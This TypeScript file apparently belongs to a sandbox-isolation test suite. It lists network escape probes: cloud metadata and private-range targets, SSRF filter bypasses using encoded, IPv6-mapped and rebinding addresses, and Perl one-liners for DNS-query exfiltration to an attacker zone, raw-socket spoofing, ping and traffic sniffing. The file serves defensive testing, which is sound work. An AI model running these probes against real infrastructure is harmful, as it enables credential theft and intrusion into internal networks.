/**
 * Ways to networks that a job must not reach. Each target is tried straight and through the proxy,
 * and answers with a value that only the host knows. In the control the sandbox has the host's
 * network, and a proxy that connects to whatever it is asked for.
 */
import type { SandboxAttack } from '../attack.ts';
import { CHECKSUM, FOREIGN_ADDRESS, lies, packedAddress, type RawTry } from './spoofing.ts';
import type { World } from './world.ts';

const CONTROL = 'the driver process on the network itself, with a proxy that judges nothing';
const EXPECTED = {
  link: {
    connection: 'nothing but the proxy is there, and it refuses',
    packet: 'no network card leads there',
  },
  nat: {
    connection: 'rules of packets refuse it, and so does the proxy',
    packet: 'rules of packets refuse it',
  },
} as const;

/** Where names of the proof lead, in order; `later`: from the second question on. */
export type NameAnswer = {
  addresses: readonly string[];
  via?: readonly string[];
  later?: readonly string[];
};

/** The resolver of the proof's own host: an address that no sandbox has for its own. */
export const RESOLVER_ADDRESS = '127.0.47.53';
/** Names below it are the attacker's: what is asked there has arrived. */
export const DATA_ZONE = 'data.example.org';
/** Outside of every refused range: what a sandbox may reach. */
export const PUBLIC_ADDRESS = '93.184.215.14';
/** Of the host itself, towards the network. */
export const HOST_ADDRESSES = { v4: '203.0.113.1', v6: '2001:db8:ffff::1' } as const;

export const NAMES: Readonly<Record<string, NameAnswer>> = {
  'public.example.org': { addresses: [PUBLIC_ADDRESS] },
  'metadata.google.internal': { addresses: ['169.254.169.254'] },
  'api.metadata.cloud.ibm.com': { addresses: ['93.184.215.77'] },
  'inside.example.org': { addresses: ['10.20.30.40'] },
  'inside6.example.org': { addresses: ['fd12:3456::20'] },
  'alias.example.org': {
    addresses: ['169.254.169.254'],
    via: ['one.example.net', 'two.example.com'],
  },
  'mixed.example.org': { addresses: ['10.20.30.41', PUBLIC_ADDRESS] },
  'turning.example.org': { addresses: [PUBLIC_ADDRESS], later: ['10.20.30.42'] },
  'loop.example.org': { addresses: ['127.0.0.1'] },
  'mapped.example.org': { addresses: ['::ffff:10.20.30.43'] },
};

/** id, what it is, target, address it comes to (else any). */
const TARGETS: readonly [id: string, what: string, target: string, address?: string][] = [
  ['metadata-aws', 'metadata of AWS, Google Cloud and Azure', '169.254.169.254:80'],
  ['metadata-aws-6', 'metadata of AWS over IPv6', '[fd00:ec2::254]:80'],
  ['metadata-ecs', 'credentials of containers at AWS', '169.254.170.2:80'],
  ['metadata-alibaba', 'metadata of Alibaba Cloud', '100.100.100.200:80'],
  ['metadata-azure', "Azure's wire server", '168.63.129.16:80'],
  ['metadata-oracle', 'metadata of Oracle Cloud', '192.0.0.192:80'],
  ['metadata-google-6', 'metadata of Google Cloud over IPv6', '[fd20:ce::254]:80'],
  ['metadata-port', 'metadata on another port', '169.254.169.254:8080'],
  ['metadata-name', 'the name of a metadata service', 'metadata.google.internal:80'],
  [
    'metadata-public-name',
    'the name of a metadata service at a public address',
    'api.metadata.cloud.ibm.com:80',
  ],
  ['private-10', 'the private range 10.0.0.0/8', '10.20.30.40:80'],
  ['private-172', 'the private range 172.16.0.0/12', '172.16.30.40:80'],
  ['private-192', 'the private range 192.168.0.0/16', '192.168.30.40:80'],
  ['private-6', 'the private range fc00::/7', '[fd12:3456::20]:80'],
  ['private-cluster', "a cluster's API", '10.96.0.1:443'],
  ['link-local', 'the range of the local link', '169.254.10.20:80'],
  ['benchmark', 'the range for benchmarks', '198.19.30.40:80'],
  ['documentation', 'the range for documentation', '192.0.2.40:80'],
  ['documentation-6', 'the range for documentation in IPv6', '[2001:db8:1::40]:80'],
  ['reserved', 'the reserved range 240.0.0.0/4', '240.0.0.40:80'],
  ['loopback', "the host's loopback", '127.0.0.1:2375'],
  ['loopback-6', "the host's loopback in IPv6", '[::1]:2375'],
  ['loopback-range', "another address of the host's loopback", '127.1.2.3:2375'],
  ['loopback-any', 'the address that means every address', '0.0.0.0:2375'],
  ['loopback-name', 'a public name that leads to loopback', 'loop.example.org:2375'],
  ['host-address', "the host's own address", `${HOST_ADDRESSES.v4}:2375`],
  ['host-address-6', "the host's own address in IPv6", `[${HOST_ADDRESSES.v6}]:2375`],
  ['mapped', 'a private address mapped into IPv6', '[::ffff:10.20.30.40]:80'],
  ['mapped-name', 'a name with a mapped address', 'mapped.example.org:80'],
  ['nat64', 'a metadata address behind NAT64', '[64:ff9b::a9fe:a9fe]:80'],
  ['6to4', 'a metadata address in 6to4', '[2002:a9fe:a9fe::1]:80'],
  ['teredo', 'a tunnel address of Teredo', '[2001:0:a9fe:a9fe::1]:80'],
  ['decimal', 'a metadata address as one number', '2852039166:80'],
  ['octal', 'a metadata address in octal', '0251.0376.0251.0376:80'],
  ['hexadecimal', 'a metadata address in hexadecimal', '0xa9fea9fe:80'],
  ['short', 'loopback written short', '127.1:2375'],
  ['trailing-dot', 'a name that ends with a dot', 'inside.example.org.:80'],
  ['capitals', 'a name in capitals', 'INSIDE.EXAMPLE.ORG:80'],
  ['private-name', 'a public name of a private address', 'inside.example.org:80'],
  ['private-name-6', 'a public name of a private address in IPv6', 'inside6.example.org:80'],
  ['alias', 'a chain of aliases that ends at metadata', 'alias.example.org:80'],
  ['mixed', 'a name with a private and a public address', 'mixed.example.org:80', '10.20.30.41'],
  [
    'rebinding',
    'a name that turns private after the first look',
    'turning.example.org:80',
    '10.20.30.42',
  ],
  ['mail', 'mail servers: port 25 of a public address', `${PUBLIC_ADDRESS}:25`],
];

/** Names whose answers differ from one look to the next, or in themselves. */
const SHIFTY = new Set(['rebinding', 'mixed']);
const SHIFTY_CONNECTS = 3;

export function networkAttacks({ network }: Pick<World, 'network'>): SandboxAttack[] {
  const expected = EXPECTED[network];
  const reached = TARGETS.map(([id, what, target, address]): SandboxAttack => {
    const times = SHIFTY.has(id) ? SHIFTY_CONNECTS : 1;
    return {
      kind: 'sandbox',
      id,
      class: 'network',
      title: `reaches ${what}`,
      expected: expected.connection,
      control: CONTROL,
      probes: [{ turn: 'first', probe: { do: 'connect', target, times } }],
      evidence: address === undefined ? { by: 'arrival' } : { by: 'arrival', address },
    };
  });
  return [...reached, ...rawAttacks(expected.packet)];
}

/** What a sandbox must reach: else nothing that is refused was refused by the guard. */
export const PUBLIC_CONTROL = {
  id: 'public-address',
  probe: { do: 'connect', target: `public.example.org:80`, times: 1 },
} as const;

const perl = (program: string): string => `perl -e '${program}'`;
const place = (port: number, text: string): string =>
  `pack("S n a4 x8", 2, ${port}, ${packedAddress(text)})`;

/** Packets that no proxy carries. */
function rawAttacks(expected: string): SandboxAttack[] {
  const tries: RawTry[] = [...datagrams(), ...rawSockets(), ...lies(PUBLIC_ADDRESS)];
  return tries.map(([id, title, script, evidence]) => ({
    kind: 'sandbox',
    id,
    class: 'network',
    title,
    expected,
    control: "the driver process on the host's network",
    probes: [{ turn: 'first', probe: { do: 'script', script } }],
    evidence,
  }));
}

function datagrams(): RawTry[] {
  return [
    [
      'udp',
      'asks a resolver of the private network over UDP',
      perl(
        `socket(S, 2, 2, 17) or die; send(S, "GET /udp", 0, ${place(53, '10.20.30.53')}) or die $!;`,
      ),
      { by: 'arrival' },
    ],
    [
      'udp-metadata',
      'sends a datagram to the metadata address',
      perl(
        `socket(S, 2, 2, 17) or die; send(S, "GET /udp-metadata", 0, ${place(53, '169.254.169.254')}) or die $!;`,
      ),
      { by: 'arrival' },
    ],
    [
      'udp-6',
      'sends a datagram to the private network over IPv6',
      perl(
        'socket(S, 10, 2, 17) or die; send(S, "GET /udp-6", 0, ' +
          `pack("S n N H32 N", 10, 53, 0, "fd123456000000000000000000000053", 0)) or die $!;`,
      ),
      { by: 'arrival' },
    ],
    [
      'dns-data',
      'carries data out in a question for a kind of record that holds any text',
      perl(
        'open(my $f, "<", "/etc/resolv.conf") or die $!; my ($at) = join("", <$f>) =~ /^nameserver ([0-9.]+)/m or die "none"; ' +
          `my $q = pack("n6", 7, 256, 1, 0, 0, 0) . join("", map { pack("C/a*", $_) } split(/[.]/, "dns-data.${DATA_ZONE}")) . pack("C n n", 0, 16, 1); ` +
          'socket(S, 2, 2, 17) or die; send(S, $q, 0, pack("S n C4 x8", 2, 53, split(/[.]/, $at))) or die $!; ' +
          'local $SIG{ALRM} = sub { exit 1 }; alarm 3; recv(S, my $in, 500, 0); print "answered with ", unpack("x3 C", $in) & 15;',
      ),
      { by: 'arrival', address: RESOLVER_ADDRESS },
    ],
  ];
}

function rawSockets(): RawTry[] {
  return [
    [
      'ping',
      'pings a private address through a raw socket',
      perl(
        `${CHECKSUM} socket(S, 2, 3, 1) or die; my $p = pack("CCnnn a10", 8, 0, 0, 77, 1, "prove-ping"); ` +
          'substr($p, 2, 2) = pack("n", sum($p)); ' +
          `send(S, $p, 0, ${place(0, '10.20.30.40')}) or die $!; ` +
          'local $SIG{ALRM} = sub { exit 1 }; alarm 3; ' +
          'while (1) { my $from = recv(S, my $in, 500, 0); ' +
          `if (substr($from, 4, 4) eq ${packedAddress('10.20.30.40')}) { print "answered by 10.20.30.40"; exit 0 } }`,
      ),
      { by: 'text', text: 'answered by' },
    ],
    [
      'spoofing',
      'sends a datagram with the source address of somebody else',
      perl(
        'socket(S, 2, 3, 255) or die; my $d = "GET /spoofing"; ' +
          'my $udp = pack("nnnn", 4000, 53, 8 + length($d), 0) . $d; ' +
          `my $ip = pack("CCnnnCCn a4 a4", 69, 0, 20 + length($udp), 7, 0, 64, 17, 0, ${packedAddress(FOREIGN_ADDRESS)}, ${packedAddress('10.20.30.53')}); ` +
          `send(S, $ip . $udp, 0, ${place(0, '10.20.30.53')}) or die $!;`,
      ),
      { by: 'arrival', from: FOREIGN_ADDRESS },
    ],
    [
      'sniffing',
      "listens to the host's network",
      perl(
        'socket(S, 17, 3, 768) or die $!; local $SIG{ALRM} = sub { exit 1 }; alarm 3; ' +
          'while (1) { recv(S, my $in, 2000, 0); if ($in =~ /(prove-traffic-[0-9a-f]+)/) { print $1; exit 0 } }',
      ),
      { by: 'secret', name: 'traffic' },
    ],
  ];
}
